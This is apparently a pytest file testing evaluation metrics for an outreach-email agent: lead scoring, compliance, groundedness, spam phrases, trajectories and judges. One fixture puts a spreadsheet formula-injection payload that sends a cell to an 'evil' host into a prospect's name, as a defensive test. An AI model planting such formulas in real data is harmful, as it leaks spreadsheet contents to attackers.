"""Evaluation metrics on tiny fixtures whose values are computed by hand in the comments."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from agents.copywriter import draft_from_template
from evals.datasets import PlannerExpectation
from evals.metrics import (
    aggregate_planner,
    compliance_scores,
    detection_scores,
    latency_stats,
    lead_scores,
    llm_usage,
    planner_field_scores,
    prf,
    requests_per_qualified_lead,
)
from evals.metrics_judges import judge_message, make_judges, pairwise_preference
from evals.metrics_text import (
    SPAM_PHRASES,
    groundedness,
    length_words,
    mentions_recent_project,
    reading_level,
    spam_phrases,
    strip_footer,
    syllables,
)
from evals.metrics_trajectory import trajectory_check
from foundation.schemas import Evidence, Fact, Message, Prospect, Signal, TargetAudience
from tests.support.fake_llm import scripted, tool_call_message
from tests.unit import test_copywriter as copywriter_fixtures

FOOTER = "\n\n--\nSam · Acme\n500 Market St, 94105\nTo opt out, click here: https://optout.acme.io/u?u=gh_alice"


def alice() -> Prospect:
    """Two evidence repos: alice/fastgrad (42 commits, 2025-01-10) is more recent than alice/tinyjit."""
    return Prospect(
        id="gh_alice",
        username="alice",
        name="Alice Liddell",
        company="@fastgrad-labs",
        signals=[
            Signal(
                name="ml_contributor",
                evidence=[
                    Evidence(
                        kind="commits",
                        repo="alice/fastgrad",
                        date=datetime(2025, 1, 10, tzinfo=UTC),
                        count=42,
                        url="https://github.com/alice/fastgrad",
                    )
                ],
            ),
            Signal(
                name="active_maintainer",
                evidence=[Evidence(kind="repo_owner", repo="alice/tinyjit", date=datetime(2024, 11, 2, tzinfo=UTC), count=130)],
            ),
        ],
    )


def draft(body: str, subject: str = "Your work on alice/fastgrad", facts: list[Fact] | None = None) -> Message:
    return Message(subject=subject, body=body + FOOTER, facts_used=facts or [])


# ---- planner -----------------------------------------------------------------------------------


def test_prf_conventions_for_empty_sets() -> None:
    assert prf(0, 0, 0) == (1.0, 1.0, 1.0)
    assert prf(0, 0, 3) == (0.0, 0.0, 0.0)
    assert prf(0, 2, 0) == (0.0, 1.0, 0.0)
    assert prf(1, 2, 4) == (0.5, 0.25, pytest.approx(1 / 3))


def _planner_rows() -> list[dict[str, Any]]:
    partly_right = planner_field_scores(
        PlannerExpectation(
            languages=["Python", "Rust"],
            domains=["machine_learning"],
            role="maintainer",
            stars_range="100..5000",
            max_prospects=50,
        ),
        TargetAudience(languages=["python", "Go"], domains=["MACHINE_LEARNING"], role="maintainer", stars_range=">=100"),
        50,
        refused=False,
    )
    right_refusal = planner_field_scores(PlannerExpectation(refuse=True), None, None, refused=True)
    wrong_refusal = planner_field_scores(PlannerExpectation(languages=["Go"], activity_days=30), None, None, refused=True)
    return [partly_right, right_refusal, wrong_refusal]


def test_planner_field_scores_per_field() -> None:
    partly_right, right_refusal, wrong_refusal = _planner_rows()
    fields = partly_right["fields"]
    assert set(fields) == {"languages", "domains", "role", "stars_range", "max_prospects"}  # only expected fields
    # languages {python, rust} vs {python, go}: TP 1, FP 1, FN 1
    assert fields["languages"] == {"precision": 0.5, "recall": 0.5, "correct": False, "tp": 1, "fp": 1, "fn": 1}
    assert fields["domains"]["correct"] and fields["domains"]["precision"] == 1.0  # case-insensitive
    assert fields["max_prospects"]["correct"] and fields["role"]["correct"]
    assert (fields["stars_range"]["precision"], fields["stars_range"]["recall"]) == (0.0, 0.0)  # scalar: exact 1/0
    assert partly_right["refusal_correct"] and not partly_right["exact_match"]
    assert right_refusal == {"fields": {}, "refusal_correct": True, "exact_match": True}
    assert wrong_refusal["fields"]["activity_days"] == {
        "precision": 0.0,
        "recall": 0.0,
        "correct": False,
        "tp": 0,
        "fp": 0,
        "fn": 1,
    }
    assert not wrong_refusal["refusal_correct"] and not wrong_refusal["exact_match"]


def test_aggregate_planner_micro_averages() -> None:
    summary = aggregate_planner(_planner_rows())
    # languages: (1,1,1) + (0,0,1) -> TP 1, FP 1, FN 2 -> P 1/2, R 1/3, F1 0.4
    assert summary["fields"]["languages"] == {
        "precision": 0.5,
        "recall": 0.3333,
        "f1": 0.4,
        "tp": 1,
        "fp": 1,
        "fn": 2,
        "n": 2,
    }
    # overall: row 1 TP 4 FP 2 FN 2, row 3 FN 2 -> P 4/6, R 4/8, F1 4/7
    assert summary["overall"] == {"precision": 0.6667, "recall": 0.5, "f1": 0.5714, "tp": 4, "fp": 2, "fn": 4}
    assert (summary["n"], summary["exact_match_rate"], summary["refusal_accuracy"]) == (3, 0.3333, 0.6667)
    assert aggregate_planner([])["exact_match_rate"] is None


# ---- leads -------------------------------------------------------------------------------------

GROUPS = [{"alice", "alice-work"}]
TRUTH = {"alice", "bob", "carol"}
RANKED = ["Alice-Work", "dave", "alice", "bob", "eve"]  # people: alice, dave, bob, eve


def test_lead_scores_count_people_and_precision_at_k() -> None:
    scores = lead_scores(RANKED, TRUTH, GROUPS, k=3)
    # 4 people predicted, 2 right (alice, bob) of 3 -> P 0.5, R 2/3, F1 4/7; top 3 = alice, dave, bob -> 2/3
    assert (scores["precision"], scores["recall"], scores["f1"]) == (0.5, 0.6667, 0.5714)
    assert (scores["precision_at_k"], scores["k"]) == (0.6667, 3)
    assert scores["missed"] == ["carol"] and scores["spurious"] == ["dave", "eve"]
    assert lead_scores(RANKED, TRUTH, GROUPS, k=10)["precision_at_k"] == 0.5  # denominator min(k, 4 listed)
    assert lead_scores([], set(), GROUPS, k=5)["precision_at_k"] == 1.0
    with pytest.raises(ValueError):
        lead_scores(RANKED, TRUTH, GROUPS, k=0)


def test_requests_per_qualified_lead() -> None:
    assert requests_per_qualified_lead(250, 4) == 62.5
    assert requests_per_qualified_lead(10, 0) is None


# ---- compliance --------------------------------------------------------------------------------


def test_compliance_scores() -> None:
    rows = [
        ("approved", "approved"),
        ("rejected", "approved"),
        ("needs_review", "approved"),
        ("approved", "needs_review"),
        ("rejected", "rejected"),
    ]
    scores = compliance_scores(rows)
    assert (scores["n"], scores["accuracy"], scores["false_approvals"], scores["false_rejections"]) == (5, 0.4, 2, 1)
    assert scores["confusion"]["rejected"] == {"approved": 1, "rejected": 1, "needs_review": 0}
    assert compliance_scores([])["accuracy"] is None
    with pytest.raises(ValueError):
        compliance_scores([("approved", "ok")])


def test_detection_scores() -> None:
    rows = [(True, True), (True, True), (True, False), (False, False), (False, True), (False, False), (False, False)]
    scores = detection_scores(rows)
    assert scores == {
        "n": 7,
        "positives": 3,
        "negatives": 4,
        "recall": 0.6667,
        "false_alarm_rate": 0.25,
        "misses": 1,
        "false_alarms": 1,
    }
    assert detection_scores([(False, False)])["recall"] is None
    assert detection_scores([(True, True)])["false_alarm_rate"] is None


# ---- cost and latency --------------------------------------------------------------------------


def test_llm_usage_sums_both_token_spellings_and_prices_snapshots() -> None:
    records = [
        {"model": "gpt-4o-mini", "input_tokens": 1_000_000, "output_tokens": 500_000},
        {"model": "gpt-4o-mini-2024-07-18", "prompt_tokens": 2_000, "completion_tokens": 1_000},
    ]
    # 1.002M in * $0.15 + 0.501M out * $0.60 = 0.1503 + 0.3006
    assert llm_usage(records) == {
        "prompt_tokens": 1_002_000,
        "completion_tokens": 501_000,
        "total_tokens": 1_503_000,
        "estimated_cost_usd": 0.4509,
        "unpriced_models": [],
    }
    unpriced = llm_usage([*records, {"model": "llama3", "input_tokens": 10, "output_tokens": 0}])
    assert unpriced["estimated_cost_usd"] is None and unpriced["unpriced_models"] == ["llama3"]
    assert unpriced["total_tokens"] == 1_503_010


def test_latency_stats() -> None:
    # sorted 1 2 3 4 10: p50 = 3; p95 at rank 3.8 = 4 + 0.8 * 6 = 8.8; mean 4
    assert latency_stats([10, 2, 1, 4, 3]) == {"n": 5, "p50": 3, "p95": 8.8, "mean": 4.0}
    assert latency_stats([]) == {"n": 0, "p50": None, "p95": None, "mean": None}


# ---- messages ----------------------------------------------------------------------------------


def test_strip_footer_and_length_words() -> None:
    assert strip_footer("Hi\n\nbody\n\n--\nfooter") == "Hi\n\nbody"
    assert strip_footer("no footer here") == "no footer here"
    assert length_words("Hi Alice,\n\nthree more words" + FOOTER) == 5


def test_groundedness_of_a_grounded_draft() -> None:
    fact = Fact(name="recent_project", value="alice/fastgrad", source="signal:ml_contributor repo:alice/fastgrad")
    message = draft("Hi Alice,\n\nI saw your 42 commits to alice/fastgrad.\n\nThanks,\nSam", facts=[fact])
    # the fact, the repository alice/fastgrad, the number 42, the greeting "Alice"; the footer's 500
    # and 94105 are not the draft's
    assert groundedness(message, alice()) == {"score": 1.0, "checked": 4, "ungrounded": []}


def test_groundedness_lists_what_the_evidence_lacks() -> None:
    fact = Fact(name="company", value="Google", source="profile.company")
    message = draft("You made 97 commits to bob/secret and 42 to alice/tinyjit.", facts=[fact])
    result = groundedness(message, alice())
    # 6 claims: the fact, repos alice/fastgrad + bob/secret + alice/tinyjit, numbers 97 + 42; 3 grounded
    assert result["checked"] == 6 and result["score"] == 0.5
    assert result["ungrounded"] == ["fact company='Google'", "repository bob/secret", "number 97"]


def test_groundedness_counts_whom_the_greeting_names_and_praise_the_evidence_lacks() -> None:
    result = groundedness(draft("Hi alice-the-great,\n\nCongrats on the award you won."), alice())
    assert result["ungrounded"] == ["achievement award", "achievement won", "greeting alice-the-great"]
    hostile = alice().model_copy(update={"name": '=HYPERLINK("http://evil/?"&A2,"Click")'})
    assert groundedness(draft("Hi there,\n\nI saw alice/fastgrad."), hostile)["ungrounded"] == []
    assert groundedness(draft("Hi =HYPERLINK,\n\nI saw alice/fastgrad."), hostile)["ungrounded"] == ["greeting =HYPERLINK"]


def test_groundedness_of_links_emails_and_nothing() -> None:
    message = draft("See https://github.com/alice/fastgrad or mail sam@acme.io", subject="Hello")
    assert groundedness(message, alice()) == {"score": 0.5, "checked": 2, "ungrounded": ["email sam@acme.io"]}
    assert groundedness(draft("Hi there", subject="Hello"), alice())["score"] == 1.0


@pytest.mark.parametrize("variant", ["A", "B", "C"])
def test_template_drafts_score_as_grounded_and_recent(variant: str) -> None:
    """The copywriter's template path only states evidence, so the metric must agree (footer and all)."""
    prospect = copywriter_fixtures.alice()
    message = draft_from_template(prospect, copywriter_fixtures.CAMPAIGN, variant, copywriter_fixtures.SETTINGS)
    assert groundedness(message, prospect)["ungrounded"] == []
    assert mentions_recent_project(message, prospect)["mentions_most_recent"]
    assert spam_phrases(f"{message.subject}\n{message.body}") == []


def test_spam_phrases() -> None:
    assert len(SPAM_PHRASES) >= 25
    text = "ACT NOW!!! This Risk Free offer is guaranteed, said the winners. Synergy." + FOOTER  # footer: "click here"
    assert spam_phrases(text) == ["act now", "guaranteed", "risk-free", "!!!"]  # "winner" is not "winners"
    assert spam_phrases(text, extra=["synergy", "act now"]) == ["act now", "guaranteed", "risk-free", "!!!", "synergy"]
    assert spam_phrases("Get it 100% FREE for $$$") == ["100% free", "$$$"]


def test_syllables_and_reading_level() -> None:
    assert [syllables(w) for w in ("the", "make", "table", "developer", "rhythm", "you")] == [1, 1, 2, 4, 1, 1]
    # 6 words, 1 sentence, 6 syllables: 0.39 * 6 + 11.8 * 1 - 15.59
    assert reading_level("The cat sat on the mat.") == -1.45
    # 3 sentences (the greeting line counts), 10 words, 15 syllables: 0.39 * 10/3 + 11.8 * 1.5 - 15.59
    assert reading_level("Hi Alice,\nWe build developer tooling. Would you try it?" + FOOTER) == 3.41
    assert reading_level("42 !!!") is None


def test_mentions_recent_project() -> None:
    recent = mentions_recent_project(draft("Hi,\nI saw alice/fastgrad."), alice())
    assert recent == {
        "mentioned": True,
        "mentions_most_recent": True,
        "named": ["alice/fastgrad"],
        "most_recent": "alice/fastgrad",
    }
    older = mentions_recent_project(draft("I like tinyjit a lot.", subject="Hello"), alice())
    assert older["mentioned"] and not older["mentions_most_recent"] and older["named"] == ["alice/tinyjit"]
    assert not mentions_recent_project(draft("I like tinyjitter.", subject="Hello"), alice())["mentioned"]
    nobody = Prospect(id="gh_bob", username="bob")
    assert mentions_recent_project(draft("Hi"), nobody)["most_recent"] is None


# ---- trajectory --------------------------------------------------------------------------------

CALLS = [
    {"tool": "search_repositories", "args": {"q": "language:Python", "page": 1}},
    {"tool": "contributors", "args": {"repo": "alice/fastgrad"}},
    {"tool": "search_repositories", "args": {"page": 1, "q": "language:Python"}},  # same call, other key order
    {"tool": "user_profile", "args": {"login": "alice"}},
]


def test_trajectory_superset_and_repeats() -> None:
    result = trajectory_check(CALLS, ["search_repositories", "user_profile"])
    assert result["key"] == "trajectory_superset_match" and result["score"] is True
    assert (result["calls"], result["repeated_calls"]) == (4, 1)
    assert result["repeated"] == ['search_repositories {"page": 1, "q": "language:Python"}']
    assert trajectory_check(CALLS, ["public_events"])["score"] is False
    assert trajectory_check(CALLS[:2], ["search_repositories"])["repeated_calls"] == 0


def test_trajectory_other_modes() -> None:
    tools = ["user_profile", "search_repositories", "contributors", "search_repositories"]
    assert trajectory_check(CALLS, tools, mode="unordered")["score"] is True
    assert trajectory_check(CALLS, tools, mode="strict")["score"] is False
    assert trajectory_check(CALLS, [*tools, "user_orgs"], mode="subset")["score"] is True
    assert trajectory_check(CALLS, ["user_profile"], mode="subset")["score"] is False


# ---- LLM judges (scripted model, no network) ----------------------------------------------------


@pytest.mark.usefixtures("block_internet")
def test_judges_score_a_draft_against_its_evidence() -> None:
    model = scripted(
        tool_call_message("score", {"reasoning": "Names fastgrad. Thus, the score should be: 0.8.", "score": 0.8}),
        tool_call_message("score", {"reasoning": "Plain. Thus, the score should be: 0.9.", "score": 0.9}),
    )
    results = judge_message(make_judges(model), draft("Hi Alice,\nI saw alice/fastgrad."), alice())
    assert {key: (r["key"], r["score"]) for key, r in results.items()} == {
        "personalisation": ("personalisation", 0.8),
        "tone": ("tone", 0.9),
    }
    assert results["personalisation"]["comment"].startswith("Names fastgrad")
    prompt = model.seen[0][-1].content
    assert "PERSONALISATION" in prompt and '"repo": "alice/fastgrad"' in prompt and "opt out" not in prompt


@pytest.mark.usefixtures("block_internet")
@pytest.mark.parametrize(
    ("seed", "answer", "preferred", "swapped"),
    [
        (0, "1", "A", False),  # random.Random(0).random() = 0.84: A shown first
        (1, "1", "B", True),  # random.Random(1).random() = 0.13: B shown first
        (1, "2", "A", True),
        (0, "tie", "tie", False),
    ],
)
def test_pairwise_preference_maps_the_shuffled_answer_back(seed: int, answer: str, preferred: str, swapped: bool) -> None:
    model = scripted(tool_call_message("pairwise_preference", {"reasoning": "More specific.", "preferred": answer}))
    result = pairwise_preference(model, "DRAFT-A text", "DRAFT-B text", {"login": "alice"}, seed=seed)
    assert result == {"preferred": preferred, "swapped": swapped, "reasoning": "More specific."}
    prompt = model.seen[0][-1].content
    assert (prompt.index("DRAFT-B") < prompt.index("DRAFT-A")) is swapped and '"login": "alice"' in prompt
